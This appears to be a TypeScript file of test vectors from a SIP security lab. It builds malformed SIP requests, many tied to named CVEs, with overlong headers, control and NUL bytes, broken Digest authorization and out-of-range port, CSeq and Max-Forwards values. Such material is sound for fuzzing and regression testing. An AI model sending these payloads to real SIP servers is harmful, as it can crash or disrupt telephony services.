/** AM01 and AM13 to AM31: one header field or Request-URI is out of bounds. */
import { lab } from '../lab.ts'
import type { Vector } from '../vector.ts'
import { CALLED, compose, offer, registrantOf } from './compose.ts'

const CALLER = 'sip:mallory@example.net'
const GRAMMAR_GAP = 'grammar gap'
const SESSION = { method: 'INVITE', body: offer() }

export const nameAbuse: readonly Vector[] = [
  {
    name: 'AM01',
    title: 'cseq-2000-char-method',
    section: 'CVE-2017-9372 (ES2017-01)',
    octets: compose('AM01', { ...SESSION, lines: { CSeq: `CSeq: 1 ${'A'.repeat(2000)}` } }),
  },
  {
    name: 'AM13',
    title: 'from-tag-400',
    section: 'CVE-2018-8828 class (ES2018-05)',
    octets: compose('AM13', {
      method: 'REGISTER',
      lines: { From: `From: <${registrantOf('AM13')}>;tag=${'t'.repeat(400)}` },
    }),
  },
  {
    name: 'AM14',
    title: 'dup-from-to-overlong',
    section: 'CVE-2020-27507',
    octets: compose('AM14', {
      ...SESSION,
      lines: {
        From: `From: <${CALLER}>;tag=one\r\nFrom: <${CALLER}>;tag=${'f'.repeat(4000)}`,
        To: `To: <${CALLED}>\r\nTo: <${CALLED}>;tag=${'t'.repeat(4000)}`,
      },
    }),
  },
  {
    name: 'AM15',
    title: 'header-name-space-colon',
    section: 'CVE-2020-28361 (ES2020-01)',
    octets: compose('AM15', { ...SESSION, extra: ['P-Asserted-Identity : <sip:director@example.com>'] }),
  },
  {
    name: 'AM16',
    title: 'header-name-ctl',
    section: 'CVE-2016-9938',
    octets: compose('AM16', { ...SESSION, extra: ['X-Contr\x01ol: 1'] }),
  },
  {
    name: 'AM17',
    title: 'header-name-nul',
    section: 'CVE-2011-2529',
    octets: compose('AM17', { ...SESSION, extra: ['X-Nu\x00l: 1'] }),
  },
  {
    name: 'AM18',
    title: 'display-name-ctl',
    section: 'CVE-2025-47779',
    octets: compose('AM18', {
      method: 'MESSAGE',
      lines: {
        From: `From: "Mal\x01\x7flory" <${CALLER}>;tag=am18tag`,
        Contact: '',
        'Content-Type': 'Content-Type: text/plain',
      },
      body: 'hello',
    }),
  },
]

export const authorizationAbuse: readonly Vector[] = [
  {
    name: 'AM19',
    title: 'auth-empty-digest',
    section: 'GHSA-64qc-9x89-rx5j',
    octets: compose('AM19', { method: 'REGISTER', extra: ['Authorization: Digest '] }),
  },
  {
    name: 'AM20',
    title: 'auth-bare-token',
    section: 'CVE-2023-28098',
    octets: compose('AM20', { method: 'REGISTER', extra: ['Authorization: Digest username'] }),
  },
  {
    name: 'AM21',
    title: 'auth-10000-params',
    section: 'resource bound',
    octets: compose('AM21', {
      method: 'REGISTER',
      extra: [`Authorization: Digest ${Array.from({ length: 10_000 }, () => 'a=1').join(',')}`],
    }),
  },
]

export const addressAbuse: readonly Vector[] = [
  {
    name: 'AM22',
    title: 'via-control-byte',
    section: 'CVE-2023-27598',
    octets: compose('AM22', {
      method: 'OPTIONS',
      lines: { Via: `Via: SIP/2.0/UDP ${lab.source.host}\x01:${lab.source.port};branch=z9hG4bKam22` },
    }),
  },
  {
    name: 'AM23',
    title: 'to-unterminated-param-quote',
    section: 'CVE-2023-27599',
    octets: compose('AM23', { method: 'OPTIONS', lines: { To: `To: <${CALLED}>;note="never closed` } }),
  },
  {
    name: 'AM24',
    title: 'ruri-port-overflow',
    section: GRAMMAR_GAP,
    octets: compose('AM24', { method: 'OPTIONS', requestUri: `${CALLED}:4294972356` }),
  },
  {
    name: 'AM25',
    title: 'ruri-port-garbage',
    section: GRAMMAR_GAP,
    octets: compose('AM25', { method: 'OPTIONS', requestUri: `${CALLED}:50x60` }),
  },
  {
    name: 'AM26',
    title: 'ruri-ipv6-unclosed',
    section: GRAMMAR_GAP,
    octets: compose('AM26', { method: 'OPTIONS', requestUri: 'sip:bob@[2001:db8::1' }),
  },
]

export const numberAbuse: readonly Vector[] = [
  {
    name: 'AM27',
    title: 'maxfwd-negative',
    section: 'RFC 3261 20.22',
    octets: compose('AM27', { method: 'OPTIONS', lines: { 'Max-Forwards': 'Max-Forwards: -1' } }),
  },
  {
    name: 'AM28',
    title: 'maxfwd-alpha',
    section: 'RFC 3261 20.22',
    octets: compose('AM28', { method: 'OPTIONS', lines: { 'Max-Forwards': 'Max-Forwards: seventy' } }),
  },
  {
    name: 'AM29',
    title: 'maxfwd-absent',
    section: 'RFC 3261 16.6 step 3',
    octets: compose('AM29', { ...SESSION, lines: { 'Max-Forwards': '' } }),
  },
  {
    name: 'AM30',
    title: 'cseq-2e32',
    section: 'RFC 3261 20.16',
    octets: compose('AM30', { ...SESSION, lines: { CSeq: 'CSeq: 4294967296 INVITE' } }),
  },
  {
    name: 'AM31',
    title: 'cseq-2e32-1',
    section: 'RFC 3261 20.16',
    octets: compose('AM31', { ...SESSION, lines: { CSeq: 'CSeq: 4294967295 INVITE' } }),
  },
]
